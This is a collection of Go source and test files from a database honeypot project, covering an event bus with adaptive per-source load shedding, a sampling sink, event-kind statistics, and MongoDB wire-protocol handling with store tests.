		if st.Sinks[i].Name != w {
			t.Fatalf("sink %d named %q, want %q (registration order, duplicates suffixed)", i, st.Sinks[i].Name, w)
		}
	}
	for _, sk := range st.Sinks[:2] {
		if sk.Events != 1 {
			t.Fatalf("sink %s delivered %d events, want 1", sk.Name, sk.Events)
		}
	}
}

// Regression: events in a batch whose RecordBatch errored were counted
// as delivered. They must land in FailedEvents instead.
func TestFailedBatchNotCountedDelivered(t *testing.T) {
	boom := errors.New("disk full")
	b := bus.New(bus.Options{Shards: 1, BatchSize: 4}, failingSink{err: boom})
	for j := 0; j < 3; j++ {
		b.Record(evt(1, j))
	}
	if err := b.Close(); !errors.Is(err, boom) {
		t.Fatalf("Close error = %v, want %v", err, boom)
	}
	sk := b.Stats().Sinks[0]
	if sk.Events != 0 {
		t.Fatalf("sink Events = %d, want 0: rejected events reported as delivered", sk.Events)
	}
	if sk.FailedEvents != 3 {
		t.Fatalf("sink FailedEvents = %d, want 3", sk.FailedEvents)
	}
	if sk.Errors == 0 {
		t.Fatal("sink errors not counted")
	}
	if s := b.Stats().String(); !strings.Contains(s, "failed=3") {
		t.Fatalf("stats line %q does not surface failed events", s)
	}
}

// Regression: StatsSink counted out-of-range event kinds in a private
// counter that no snapshot exposed — invisible in Total and the log
// line. Other must be surfaced everywhere.
func TestStatsSinkOtherSurfaced(t *testing.T) {
	s := &bus.StatsSink{}
	good := evt(1, 1)
	bad := evt(1, 2)
	bad.Kind = core.EventKind(9)
	s.RecordBatch([]core.Event{good, bad})
	c := s.Counts()
	if c.Other != 1 {
		t.Fatalf("Other = %d, want 1", c.Other)
	}
	if c.Total() != 2 {
		t.Fatalf("Total = %d, want 2 (out-of-range kind dropped from the sum)", c.Total())
	}
	if !strings.Contains(c.String(), "other=1") {
		t.Fatalf("log line %q hides the out-of-range count", c.String())
	}
}

// slowSink delays every delivery; implements only core.Sink so the bus
// exercises the per-event fallback under load.
type slowSink struct {
	delay time.Duration
	n     atomic.Int64
}

func (s *slowSink) Record(core.Event) {
	time.Sleep(s.delay)
	s.n.Add(1)
}

// gatedSink blocks its first delivery until released, letting tests
// build up a backlog deterministically.
type gatedSink struct {
	release chan struct{}
	n       atomic.Int64
	once    sync.Once
}

func (g *gatedSink) Record(core.Event) {
	g.n.Add(1)
	g.once.Do(func() { <-g.release })
}

type failingSink struct{ err error }

func (f failingSink) Record(core.Event)              {}
func (f failingSink) RecordBatch([]core.Event) error { return f.err }
