package bus

import (
	"net/netip"
	"time"

	"decoydb/internal/core"
)

// admitAdaptive applies the Adaptive policy to one event. The caller
// holds sh.mu. It returns false when the event must be shed: the shard
// is past its high-water mark (and has not yet drained back to the
// low-water mark) and the event's source has used up its budget for the
// current window. Admitted events still obey Block semantics upstream.
func (sh *shard) admitAdaptive(o *Options, e core.Event) bool {
	if !sh.shedding {
		if sh.n < o.HighWater {
			return true
		}
		sh.shedding = true
	} else if sh.n <= o.LowWater {
		sh.shedding = false
		return true
	}
	if sh.src == nil {
		sh.src = newSourceTable(o.SourceBudget, o.SourceWindow, o.MaxSources)
	}
	return sh.src.admit(e.Src.Addr(), e.Time)
}

// sourceState is one tracked source inside a shard's sourceTable. Entries
// form an intrusive doubly-linked LRU list: head is the most recently
// seen source, tail the eviction candidate.
type sourceState struct {
	addr        netip.Addr
	windowStart time.Time // start of the source's current budget window
	admitted    int       // events admitted in the current window
	shed        uint64    // events shed from this source so far
	prev, next  *sourceState
}

// sourceTable is the per-shard adaptive-shedding state: a bounded,
// LRU-evicted map from source address to its window budget and shed
// count. It is guarded by the owning shard's mutex; nothing here locks.
//
// The budget window advances on event time (core.Event.Time), not wall
// time: the simulator runs a 20-day capture in seconds of wall clock,
// and a live farm's events carry wall time anyway, so event time is the
// one clock that is correct in both worlds.
type sourceTable struct {
	budget int
	window time.Duration
	max    int

	m          map[netip.Addr]*sourceState
	head, tail *sourceState

	// shedEvicted accumulates shed counts from evicted entries so the
	// shard's totals stay exact even when attribution is lost.
	shedEvicted uint64
}

func newSourceTable(budget int, window time.Duration, max int) *sourceTable {
	return &sourceTable{
		budget: budget,
		window: window,
		max:    max,
		m:      make(map[netip.Addr]*sourceState),
	}
}

// admit decides whether an event from addr at time t stays within the
// source's first-N-per-window budget. Over-budget events are counted as
// shed against the source and rejected.
func (st *sourceTable) admit(addr netip.Addr, t time.Time) bool {
	s := st.m[addr]
	if s == nil {
		s = st.insert(addr, t)
	} else {
		st.touch(s)
		if t.Sub(s.windowStart) >= st.window {
			s.windowStart = t
			s.admitted = 0
		}
	}
	if s.admitted < st.budget {
		s.admitted++
		return true
	}
	s.shed++
	return false
}

// insert adds a fresh source at the head, evicting the tail if the table
// is full.
func (st *sourceTable) insert(addr netip.Addr, t time.Time) *sourceState {
	if len(st.m) >= st.max {
		ev := st.tail
		st.unlink(ev)
		delete(st.m, ev.addr)
		st.shedEvicted += ev.shed
	}
	s := &sourceState{addr: addr, windowStart: t}
	st.m[addr] = s
	st.pushFront(s)
	return s
}

// touch moves s to the head of the LRU list.
func (st *sourceTable) touch(s *sourceState) {
	if st.head == s {
		return
	}
	st.unlink(s)
	st.pushFront(s)
}

func (st *sourceTable) pushFront(s *sourceState) {
	s.prev = nil
	s.next = st.head
	if st.head != nil {
		st.head.prev = s
	}
	st.head = s
	if st.tail == nil {
		st.tail = s
	}
}

func (st *sourceTable) unlink(s *sourceState) {
	if s.prev != nil {
		s.prev.next = s.next
	} else {
		st.head = s.next
	}
	if s.next != nil {
		s.next.prev = s.prev
	} else {
		st.tail = s.prev
	}
	s.prev, s.next = nil, nil
}

// SourceShed is one entry of the heaviest-shedders list: a source
// address and how many of its events the adaptive policy shed.
type SourceShed struct {
	Addr netip.Addr
	Shed uint64
}
