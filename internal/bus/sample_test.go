package bus

import (
	"net/netip"
	"testing"
	"time"

	"decoydb/internal/core"
)

// batchRecorder captures forwarded batches and checks the sampler hands
// it slices it may keep (i.e. never the caller's shared batch storage).
type batchRecorder struct {
	events  []core.Event
	batches int
}

func (r *batchRecorder) Record(e core.Event) { r.events = append(r.events, e) }
func (r *batchRecorder) RecordBatch(events []core.Event) error {
	r.batches++
	r.events = append(r.events, events...)
	return nil
}

func sampleEvent(addr netip.Addr, t time.Time) core.Event {
	return core.Event{Time: t, Src: netip.AddrPortFrom(addr, 12345), Kind: core.EventCommand}
}

func TestSampleSinkQuietSourcesUntouched(t *testing.T) {
	rec := &batchRecorder{}
	s := NewSampleSink(rec, SampleOptions{Threshold: 10, N: 5})
	start := time.Unix(0, 0)
	// 20 sources, each below the threshold: everything passes.
	for i := 0; i < 20; i++ {
		addr := netip.AddrFrom4([4]byte{10, 0, 0, byte(i)})
		for j := 0; j < 10; j++ {
			s.Record(sampleEvent(addr, start.Add(time.Duration(j)*time.Second)))
		}
	}
	if len(rec.events) != 200 {
		t.Fatalf("forwarded %d events, want all 200", len(rec.events))
	}
	st := s.Stats()
	if st.Dropped != 0 || st.Kept != 200 || st.Sources != 20 {
		t.Fatalf("stats: %+v", st)
	}
}

func TestSampleSinkThinsHotSource(t *testing.T) {
	rec := &batchRecorder{}
	s := NewSampleSink(rec, SampleOptions{Threshold: 100, N: 10, Window: time.Minute})
	start := time.Unix(0, 0)
	hot := netip.AddrFrom4([4]byte{203, 0, 113, 7})
	// 1100 events inside one window: 100 at full fidelity, then 1-in-10
	// of the remaining 1000.
	for i := 0; i < 1100; i++ {
		s.Record(sampleEvent(hot, start.Add(time.Duration(i)*time.Millisecond)))
	}
	want := 100 + 1000/10
	if len(rec.events) != want {
		t.Fatalf("forwarded %d events, want %d", len(rec.events), want)
	}
	st := s.Stats()
	if st.Offered != 1100 || st.Kept != uint64(want) || st.Kept+st.Dropped != st.Offered {
		t.Fatalf("stats: %+v", st)
	}

	// A new window resets the source to full fidelity.
	s.Record(sampleEvent(hot, start.Add(2*time.Minute)))
	if len(rec.events) != want+1 {
		t.Fatalf("event in fresh window was sampled away")
	}
}

func TestSampleSinkBatchDoesNotMutateInput(t *testing.T) {
	rec := &batchRecorder{}
	s := NewSampleSink(rec, SampleOptions{Threshold: 2, N: 100, Window: time.Hour})
	start := time.Unix(0, 0)
	hot := netip.AddrFrom4([4]byte{198, 51, 100, 1})
	quiet := netip.AddrFrom4([4]byte{198, 51, 100, 2})
	batch := []core.Event{
		sampleEvent(hot, start),
		sampleEvent(hot, start.Add(time.Second)),
		sampleEvent(hot, start.Add(2*time.Second)), // over threshold: kept (first of N)
		sampleEvent(hot, start.Add(3*time.Second)), // dropped
		sampleEvent(quiet, start.Add(4*time.Second)),
	}
	orig := make([]core.Event, len(batch))
	copy(orig, batch)

	if err := s.RecordBatch(batch); err != nil {
		t.Fatal(err)
	}
	// The shared input slice is handed to every bus sink in turn; the
	// sampler must filter into its own copy, never compact in place.
	for i := range batch {
		if batch[i] != orig[i] {
			t.Fatalf("input batch mutated at %d", i)
		}
	}
	if len(rec.events) != 4 {
		t.Fatalf("forwarded %d events, want 4", len(rec.events))
	}
	if rec.events[3].Src.Addr() != quiet {
		t.Fatalf("quiet source's event lost: %+v", rec.events)
	}
	if rec.batches != 1 {
		t.Fatalf("batch path not used: %d", rec.batches)
	}
}

func TestSampleSinkEvictionKeepsTotals(t *testing.T) {
	rec := &batchRecorder{}
	s := NewSampleSink(rec, SampleOptions{Threshold: 1, N: 2, MaxSources: 4, Window: time.Hour})
	start := time.Unix(0, 0)
	// Push 16 sources through a 4-entry table, each over threshold.
	for i := 0; i < 16; i++ {
		addr := netip.AddrFrom4([4]byte{10, 1, 0, byte(i)})
		for j := 0; j < 4; j++ {
			s.Record(sampleEvent(addr, start.Add(time.Duration(j)*time.Second)))
		}
	}
	st := s.Stats()
	if st.Sources != 4 {
		t.Fatalf("table grew past MaxSources: %d", st.Sources)
	}
	if st.Offered != 64 || st.Kept+st.Dropped != st.Offered {
		t.Fatalf("totals broken after eviction: %+v", st)
	}
	if st.DroppedEvicted == 0 {
		t.Fatalf("expected evicted drop attribution: %+v", st)
	}
}
