package bus_test

import (
	"net/netip"
	"strings"
	"sync"
	"testing"
	"time"

	"decoydb/internal/bus"
	"decoydb/internal/core"
)

// aevt builds an event from addr at t seconds past the experiment start.
func aevt(addr netip.Addr, t int) core.Event {
	return core.Event{
		Time: core.ExperimentStart.Add(time.Duration(t) * time.Second),
		Src:  netip.AddrPortFrom(addr, 1024),
		Honeypot: core.Info{
			DBMS: core.MSSQL, Level: core.Low, Port: 1433,
			Config: core.ConfigDefault, Group: core.GroupMulti, VM: "vm",
		},
		Kind: core.EventLogin,
		User: "sa", Pass: "pw",
	}
}

var (
	flooder = netip.AddrFrom4([4]byte{203, 0, 113, 1})
	scout   = netip.AddrFrom4([4]byte{203, 0, 113, 2})
)

// parkWorker records one event and waits until the shard worker has
// picked it up and is blocked inside the gated sink. From then on the
// queue depth is a deterministic function of subsequent Record calls.
func parkWorker(t *testing.T, b *bus.Bus, gate *gatedSink) {
	t.Helper()
	b.Record(aevt(flooder, 0))
	for gate.n.Load() == 0 {
		time.Sleep(time.Millisecond)
	}
}

// TestAdaptiveShedsFloodKeepsScout walks the policy through one full
// episode: fill to the high-water mark, shed the over-budget flooder,
// admit the in-budget scout, and recover below the low-water mark.
// Admission checks the queue depth before the incoming event, so with
// HighWater=4 the first four queued records are pre-shedding.
func TestAdaptiveShedsFloodKeepsScout(t *testing.T) {
	gate := &gatedSink{release: make(chan struct{})}
	b := bus.New(bus.Options{
		Shards: 1, QueueSize: 8, BatchSize: 1,
		Policy:    bus.Adaptive,
		HighWater: 4, LowWater: 2,
		SourceBudget: 3, SourceWindow: time.Hour,
	}, gate)

	parkWorker(t, b, gate)

	for i := 1; i <= 4; i++ {
		b.Record(aevt(flooder, i)) // depth 0..3 < HighWater: admitted free
	}
	// Depth is now 4 == HighWater: shedding engages on the next record
	// and the flooder starts spending its 3-event window budget.
	for i := 5; i <= 7; i++ {
		b.Record(aevt(flooder, i)) // within budget
	}
	for i := 8; i <= 12; i++ {
		b.Record(aevt(flooder, i)) // over budget: shed
	}
	// The scout has its own untouched budget and loses nothing.
	b.Record(aevt(scout, 13))

	st := b.Stats()
	if st.Dropped != 5 {
		t.Fatalf("dropped = %d, want 5", st.Dropped)
	}
	if len(st.Shedders) != 1 || st.Shedders[0].Addr != flooder || st.Shedders[0].Shed != 5 {
		t.Fatalf("shedders = %+v, want [{%s 5}]", st.Shedders, flooder)
	}
	if st.ShedUnattributed != 0 {
		t.Fatalf("unattributed = %d, want 0", st.ShedUnattributed)
	}
	if s := st.String(); !strings.Contains(s, "adaptive") || !strings.Contains(s, "shed[") {
		t.Fatalf("stats line %q misses adaptive/shed markers", s)
	}

	close(gate.release)
	b.Flush()

	// Fully drained: the shard recovered below the low-water mark, so
	// the flooder — despite an exhausted window budget — is back to
	// lossless Block behaviour.
	b.Record(aevt(flooder, 14))
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
	st = b.Stats()
	if st.Dropped != 5 {
		t.Fatalf("post-recovery dropped = %d, want 5", st.Dropped)
	}
	// 1 parked + 4 below high water + 3 budget + 1 scout + 1 recovered.
	if got := gate.n.Load(); got != 10 {
		t.Fatalf("sink saw %d events, want 10", got)
	}
}

// TestAdaptiveWindowRoll verifies the per-source budget renews once
// event time advances past the window while shedding stays engaged.
func TestAdaptiveWindowRoll(t *testing.T) {
	gate := &gatedSink{release: make(chan struct{})}
	b := bus.New(bus.Options{
		Shards: 1, QueueSize: 16, BatchSize: 1,
		Policy:    bus.Adaptive,
		HighWater: 2, LowWater: 1,
		SourceBudget: 2, SourceWindow: time.Minute,
	}, gate)

	parkWorker(t, b, gate)
	b.Record(aevt(flooder, 1)) // depth 0: pre-shedding
	b.Record(aevt(flooder, 2)) // depth 1: pre-shedding
	b.Record(aevt(flooder, 3)) // depth 2 == HighWater: window opens at t=3, budget 1/2
	b.Record(aevt(flooder, 4)) // budget 2/2
	b.Record(aevt(flooder, 5)) // over budget: shed
	b.Record(aevt(flooder, 70)) // 67s past window start: budget renews, 1/2
	b.Record(aevt(flooder, 71)) // budget 2/2
	b.Record(aevt(flooder, 72)) // over budget: shed

	st := b.Stats()
	if st.Dropped != 2 {
		t.Fatalf("dropped = %d, want 2 (one per window)", st.Dropped)
	}
	close(gate.release)
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestAdaptiveLRUEviction bounds the tracking table at MaxSources and
// checks that an evicted source's shed count stays in the books as
// unattributed rather than vanishing.
func TestAdaptiveLRUEviction(t *testing.T) {
	gate := &gatedSink{release: make(chan struct{})}
	b := bus.New(bus.Options{
		Shards: 1, QueueSize: 64, BatchSize: 1,
		Policy:    bus.Adaptive,
		HighWater: 1, LowWater: 0,
		SourceBudget: 1, SourceWindow: time.Hour,
		MaxSources: 2, TopShedders: 16,
	}, gate)

	parkWorker(t, b, gate)
	srcs := []netip.Addr{
		netip.AddrFrom4([4]byte{203, 0, 113, 31}),
		netip.AddrFrom4([4]byte{203, 0, 113, 32}),
		netip.AddrFrom4([4]byte{203, 0, 113, 33}),
	}
	b.Record(aevt(srcs[0], 1)) // depth 0 < HighWater=1: pre-shedding
	b.Record(aevt(srcs[0], 2)) // shedding; budget 1/1
	b.Record(aevt(srcs[0], 3)) // over budget: shed=1 on srcs[0]
	b.Record(aevt(srcs[1], 4)) // budget 1/1
	b.Record(aevt(srcs[1], 5)) // shed=1 on srcs[1]
	// A third source overflows MaxSources=2 and evicts the least
	// recently used entry — srcs[0] — along with its shed count.
	b.Record(aevt(srcs[2], 6)) // budget 1/1
	b.Record(aevt(srcs[2], 7)) // shed=1 on srcs[2]

	st := b.Stats()
	if st.Dropped != 3 {
		t.Fatalf("dropped = %d, want 3", st.Dropped)
	}
	var attributed uint64
	for _, sd := range st.Shedders {
		if sd.Addr == srcs[0] {
			t.Fatalf("evicted source %s still attributed", sd.Addr)
		}
		attributed += sd.Shed
	}
	if attributed != 2 || st.ShedUnattributed != 1 {
		t.Fatalf("attributed=%d unattributed=%d, want 2/1", attributed, st.ShedUnattributed)
	}

	close(gate.release)
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}
}

// TestAdaptiveConcurrentRace is the -race exercise: a flooding source
// and several background producers hammer an adaptive bus over a slow
// sink while Stats and Flush run concurrently. Background sources stay
// inside their window budget, so they must lose nothing even while the
// flooder is being shed.
func TestAdaptiveConcurrentRace(t *testing.T) {
	const (
		backgrounds   = 4
		perBackground = 50 // == SourceBudget: never over budget
		floodEvents   = 4000
	)
	sink := &countingSlowSink{delay: 200 * time.Microsecond}
	b := bus.New(bus.Options{
		Shards: 2, QueueSize: 32, BatchSize: 8,
		Policy:    bus.Adaptive,
		HighWater: 8, LowWater: 2,
		SourceBudget: perBackground, SourceWindow: time.Hour,
	}, sink)

	var producers sync.WaitGroup
	producers.Add(1)
	go func() {
		defer producers.Done()
		for i := 0; i < floodEvents; i++ {
			b.Record(aevt(flooder, i%3000)) // all inside one window
		}
	}()
	for k := 0; k < backgrounds; k++ {
		producers.Add(1)
		go func(k int) {
			defer producers.Done()
			addr := netip.AddrFrom4([4]byte{203, 0, 113, byte(50 + k)})
			for i := 0; i < perBackground; i++ {
				b.Record(aevt(addr, i))
			}
		}(k)
	}

	stop := make(chan struct{})
	var observer sync.WaitGroup
	observer.Add(1)
	go func() {
		defer observer.Done()
		for {
			select {
			case <-stop:
				return
			default:
				_ = b.Stats().String()
				b.Flush()
			}
		}
	}()

	producers.Wait()
	close(stop)
	observer.Wait()
	if err := b.Close(); err != nil {
		t.Fatal(err)
	}

	st := b.Stats()
	const produced = floodEvents + backgrounds*perBackground
	if st.Enqueued+st.Dropped != produced {
		t.Fatalf("enqueued %d + dropped %d != produced %d", st.Enqueued, st.Dropped, produced)
	}
	if st.Delivered != st.Enqueued {
		t.Fatalf("delivered %d != enqueued %d after Close", st.Delivered, st.Enqueued)
	}
	for k := 0; k < backgrounds; k++ {
		addr := netip.AddrFrom4([4]byte{203, 0, 113, byte(50 + k)})
		if got := sink.perSrc(addr); got != perBackground {
			t.Fatalf("background %s delivered %d events, want %d (zero loss)", addr, got, perBackground)
		}
		for _, sd := range st.Shedders {
			if sd.Addr == addr {
				t.Fatalf("background %s appears in shedders: %+v", addr, sd)
			}
		}
	}
	if st.Dropped > 0 {
		if len(st.Shedders) != 1 || st.Shedders[0].Addr != flooder || st.Shedders[0].Shed != st.Dropped {
			t.Fatalf("shedders = %+v, want all %d drops on %s", st.Shedders, st.Dropped, flooder)
		}
	}
}

// countingSlowSink delays every batch and counts delivered events per
// source, so tests can assert exact per-source delivery.
type countingSlowSink struct {
	delay time.Duration
	mu    sync.Mutex
	per   map[netip.Addr]int
}

func (s *countingSlowSink) Record(e core.Event) {
	_ = s.RecordBatch([]core.Event{e})
}

func (s *countingSlowSink) RecordBatch(events []core.Event) error {
	time.Sleep(s.delay)
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.per == nil {
		s.per = make(map[netip.Addr]int)
	}
	for _, e := range events {
		s.per[e.Src.Addr()]++
	}
	return nil
}

func (s *countingSlowSink) perSrc(a netip.Addr) int {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.per[a]
}
