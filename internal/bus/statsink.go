package bus

import (
	"fmt"
	"sync/atomic"

	"decoydb/internal/core"
)

// StatsSink is a lock-free core.BatchSink counting events by kind. A live
// farm registers it alongside the real consumers so operational log
// lines can report what the deployment is seeing without touching the
// stores.
type StatsSink struct {
	kinds  [4]atomic.Uint64 // indexed by core.EventKind
	logins atomic.Uint64    // successful logins (Event.OK)
	other  atomic.Uint64    // out-of-range kinds, defensively
}

// Record implements core.Sink.
func (s *StatsSink) Record(e core.Event) {
	if k := int(e.Kind); k >= 0 && k < len(s.kinds) {
		s.kinds[k].Add(1)
	} else {
		s.other.Add(1)
	}
	if e.Kind == core.EventLogin && e.OK {
		s.logins.Add(1)
	}
}

// RecordBatch implements core.BatchSink.
func (s *StatsSink) RecordBatch(events []core.Event) error {
	for _, e := range events {
		s.Record(e)
	}
	return nil
}

// KindCounts is a snapshot of per-kind event counts. Other counts events
// whose kind is outside the known range — a protocol handler emitting a
// bad kind must be visible, not silently absorbed.
type KindCounts struct {
	Connects uint64
	Logins   uint64
	LoginOK  uint64
	Commands uint64
	Closes   uint64
	Other    uint64
}

// Total sums all counted events, including out-of-range kinds.
func (c KindCounts) Total() uint64 {
	return c.Connects + c.Logins + c.Commands + c.Closes + c.Other
}

// String renders the snapshot for a log line.
func (c KindCounts) String() string {
	s := fmt.Sprintf("events=%d connects=%d logins=%d (ok=%d) commands=%d",
		c.Total(), c.Connects, c.Logins, c.LoginOK, c.Commands)
	if c.Other > 0 {
		s += fmt.Sprintf(" other=%d", c.Other)
	}
	return s
}

// Counts snapshots the counters.
func (s *StatsSink) Counts() KindCounts {
	return KindCounts{
		Connects: s.kinds[core.EventConnect].Load(),
		Logins:   s.kinds[core.EventLogin].Load(),
		LoginOK:  s.logins.Load(),
		Commands: s.kinds[core.EventCommand].Load(),
		Closes:   s.kinds[core.EventClose].Load(),
		Other:    s.other.Load(),
	}
}
