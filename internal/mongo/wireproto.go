// Package mongo implements the high-interaction MongoDB honeypot. Unlike
// the low/medium tiers, it is backed by a real in-memory document store,
// mirroring the paper's use of a genuine MongoDB instance: adversaries can
// list databases, dump collections, delete everything and insert ransom
// notes — the full attack the paper's Section 6.3 case study documents.
//
// The wire layer supports both OP_QUERY (legacy handshakes and old attack
// tooling) and OP_MSG (modern drivers).
package mongo

import (
	"fmt"
	"io"
	"sync/atomic"

	"decoydb/internal/bson"
	"decoydb/internal/wire"
)

// Opcodes.
const (
	OpReply = 1
	OpQuery = 2004
	OpMsg   = 2013
)

// MaxMessage bounds one wire message.
const MaxMessage = 1 << 21

// Header is the MongoDB message header.
type Header struct {
	RequestID  int32
	ResponseTo int32
	OpCode     int32
}

// Message is one parsed client message.
type Message struct {
	Header Header
	// Query fields (OP_QUERY).
	Collection string
	Query      bson.D
	// Msg fields (OP_MSG): body section plus any document-sequence docs
	// folded into the body under their sequence identifier.
	Body bson.D
}

// ReadMessage reads and parses one client message.
func ReadMessage(r io.Reader) (Message, error) {
	var hdr [16]byte
	if err := wire.ReadFull(r, hdr[:]); err != nil {
		return Message{}, err
	}
	rd := wire.NewReader(hdr[:])
	total, _ := rd.Uint32LE()
	if total < 16 || total > MaxMessage {
		return Message{}, fmt.Errorf("%w: mongo message %d", wire.ErrFrameTooLarge, total)
	}
	reqID, _ := rd.Uint32LE()
	respTo, _ := rd.Uint32LE()
	opcode, _ := rd.Uint32LE()
	body, err := wire.ReadN(r, int(total)-16, MaxMessage)
	if err != nil {
		return Message{}, err
	}
	m := Message{Header: Header{RequestID: int32(reqID), ResponseTo: int32(respTo), OpCode: int32(opcode)}}
	switch m.Header.OpCode {
	case OpQuery:
		return parseQuery(m, body)
	case OpMsg:
		return parseMsg(m, body)
	default:
		return m, fmt.Errorf("mongo: unsupported opcode %d", m.Header.OpCode)
	}
}

func parseQuery(m Message, body []byte) (Message, error) {
	rd := wire.NewReader(body)
	if err := rd.Skip(4); err != nil { // flags
		return m, err
	}
	coll, err := rd.CString()
	if err != nil {
		return m, err
	}
	m.Collection = coll
	if err := rd.Skip(8); err != nil { // numberToSkip, numberToReturn
		return m, err
	}
	rest := rd.Rest()
	n, err := bson.DocLen(rest)
	if err != nil {
		return m, err
	}
	q, err := bson.Unmarshal(rest[:n])
	if err != nil {
		return m, err
	}
	m.Query = q
	return m, nil
}

func parseMsg(m Message, body []byte) (Message, error) {
	rd := wire.NewReader(body)
	if err := rd.Skip(4); err != nil { // flagBits
		return m, err
	}
	var seqs bson.D
	for rd.Len() > 0 {
		kind, err := rd.Uint8()
		if err != nil {
			return m, err
		}
		switch kind {
		case 0:
			rest := rd.Rest()
			n, err := bson.DocLen(rest)
			if err != nil {
				return m, err
			}
			doc, err := bson.Unmarshal(rest[:n])
			if err != nil {
				return m, err
			}
			m.Body = doc
			// Re-seat the reader past the document.
			rd = wire.NewReader(rest[n:])
		case 1:
			size, err := rd.Uint32LE()
			if err != nil {
				return m, err
			}
			if size < 4 || int(size) > rd.Len()+4 {
				return m, fmt.Errorf("%w: sequence size %d", wire.ErrFrameTooLarge, size)
			}
			sec, err := rd.Bytes(int(size) - 4)
			if err != nil {
				return m, err
			}
			srd := wire.NewReader(sec)
			ident, err := srd.CString()
			if err != nil {
				return m, err
			}
			var docs bson.A
			for srd.Len() > 0 {
				rest := srd.Rest()
				n, err := bson.DocLen(rest)
				if err != nil {
					return m, err
				}
				doc, err := bson.Unmarshal(rest[:n])
				if err != nil {
					return m, err
				}
				docs = append(docs, doc)
				srd = wire.NewReader(rest[n:])
			}
			seqs = append(seqs, bson.E{Key: ident, Val: docs})
		default:
			return m, fmt.Errorf("mongo: unknown OP_MSG section kind %d", kind)
		}
	}
	m.Body = append(m.Body, seqs...)
	return m, nil
}

// WriteReply writes an OP_REPLY carrying docs (response to OP_QUERY).
func WriteReply(w io.Writer, respTo int32, docs ...bson.D) error {
	payload := wire.NewWriter(256)
	payload.Uint32LE(8) // responseFlags: AwaitCapable
	payload.Uint64LE(0) // cursorID
	payload.Uint32LE(0) // startingFrom
	payload.Uint32LE(uint32(len(docs)))
	for _, d := range docs {
		b, err := bson.Marshal(d)
		if err != nil {
			return err
		}
		payload.Raw(b)
	}
	return writeFrame(w, OpReply, respTo, payload.Bytes())
}

// WriteMsgReply writes an OP_MSG with a single body section (response to
// OP_MSG).
func WriteMsgReply(w io.Writer, respTo int32, doc bson.D) error {
	b, err := bson.Marshal(doc)
	if err != nil {
		return err
	}
	payload := wire.NewWriter(5 + len(b))
	payload.Uint32LE(0) // flagBits
	payload.Uint8(0)    // section kind 0
	payload.Raw(b)
	return writeFrame(w, OpMsg, respTo, payload.Bytes())
}

// EncodeQuery renders an OP_QUERY message (client side).
func EncodeQuery(reqID int32, collection string, query bson.D) ([]byte, error) {
	q, err := bson.Marshal(query)
	if err != nil {
		return nil, err
	}
	payload := wire.NewWriter(32 + len(q))
	payload.Uint32LE(0)
	payload.CString(collection)
	payload.Uint32LE(0)
	payload.Uint32LE(uint32(0xffffffff)) // numberToReturn: -1
	payload.Raw(q)
	return frame(OpQuery, reqID, 0, payload.Bytes()), nil
}

// EncodeMsg renders an OP_MSG message with one body section (client side).
func EncodeMsg(reqID int32, body bson.D) ([]byte, error) {
	b, err := bson.Marshal(body)
	if err != nil {
		return nil, err
	}
	payload := wire.NewWriter(5 + len(b))
	payload.Uint32LE(0)
	payload.Uint8(0)
	payload.Raw(b)
	return frame(OpMsg, reqID, 0, payload.Bytes()), nil
}

func frame(opcode int32, reqID, respTo int32, payload []byte) []byte {
	w := wire.NewWriter(16 + len(payload))
	w.Uint32LE(uint32(16 + len(payload)))
	w.Uint32LE(uint32(reqID))
	w.Uint32LE(uint32(respTo))
	w.Uint32LE(uint32(opcode))
	w.Raw(payload)
	return w.Bytes()
}

var replyCounter atomic.Int32

func writeFrame(w io.Writer, opcode int32, respTo int32, payload []byte) error {
	_, err := w.Write(frame(opcode, replyCounter.Add(1), respTo, payload))
	return err
}
