package mongo

import (
	"bufio"
	"bytes"
	"io"
	"net"
	"reflect"
	"testing"

	"decoydb/internal/bson"
	"decoydb/internal/core"
	"decoydb/internal/hptest"
)

func TestStoreCRUD(t *testing.T) {
	s := NewStore()
	s.Insert("shop", "customers",
		bson.D{{Key: "_id", Val: int32(1)}, {Key: "name", Val: "amy"}},
		bson.D{{Key: "_id", Val: int32(2)}, {Key: "name", Val: "bob"}},
	)
	s.Insert("shop", "orders", bson.D{{Key: "_id", Val: int32(9)}})

	if got := s.Databases(); !reflect.DeepEqual(got, []string{"shop"}) {
		t.Fatalf("Databases = %v", got)
	}
	if got := s.Collections("shop"); !reflect.DeepEqual(got, []string{"customers", "orders"}) {
		t.Fatalf("Collections = %v", got)
	}
	if got := s.Find("shop", "customers", nil, 0); len(got) != 2 {
		t.Fatalf("Find all = %d docs", len(got))
	}
	byName := s.Find("shop", "customers", bson.D{{Key: "name", Val: "amy"}}, 0)
	if len(byName) != 1 || byName[0].Int("_id") != 1 {
		t.Fatalf("Find by name = %v", byName)
	}
	if n := s.Count("shop", "customers", nil); n != 2 {
		t.Fatalf("Count = %d", n)
	}
	if n := s.Delete("shop", "customers", bson.D{{Key: "name", Val: "bob"}}); n != 1 {
		t.Fatalf("Delete = %d", n)
	}
	if n := s.Delete("shop", "customers", nil); n != 1 {
		t.Fatalf("Delete all = %d", n)
	}
	if !s.DropCollection("shop", "orders") {
		t.Fatal("DropCollection failed")
	}
	if s.DropCollection("shop", "orders") {
		t.Fatal("double drop succeeded")
	}
	if !s.DropDatabase("shop") {
		t.Fatal("DropDatabase failed")
	}
	if len(s.Databases()) != 0 {
		t.Fatal("database survived drop")
	}
}

func TestStoreFilterDollarQuery(t *testing.T) {
	s := NewStore()
	s.Insert("db", "c", bson.D{{Key: "k", Val: "v"}}, bson.D{{Key: "k", Val: "w"}})
	got := s.Find("db", "c", bson.D{{Key: "$query", Val: bson.D{{Key: "k", Val: "v"}}}}, 0)
	if len(got) != 1 {
		t.Fatalf("$query filter = %d docs", len(got))
	}
}

func mongoInfo() core.Info {
	return core.Info{DBMS: core.MongoDB, Level: core.High, Port: 27017, Config: core.ConfigFakeData, Group: core.GroupHigh, Region: "NL"}
}

// mongoClient speaks OP_MSG to the honeypot.
type mongoClient struct {
	t   *testing.T
	br  *bufio.Reader
	c   net.Conn
	seq int32
}

func newMongoClient(t *testing.T, c net.Conn) *mongoClient {
	return &mongoClient{t: t, br: bufio.NewReader(c), c: c}
}

func (m *mongoClient) run(cmd bson.D) bson.D {
	m.t.Helper()
	m.seq++
	b, err := EncodeMsg(m.seq, cmd)
	if err != nil {
		m.t.Fatal(err)
	}
	if _, err := m.c.Write(b); err != nil {
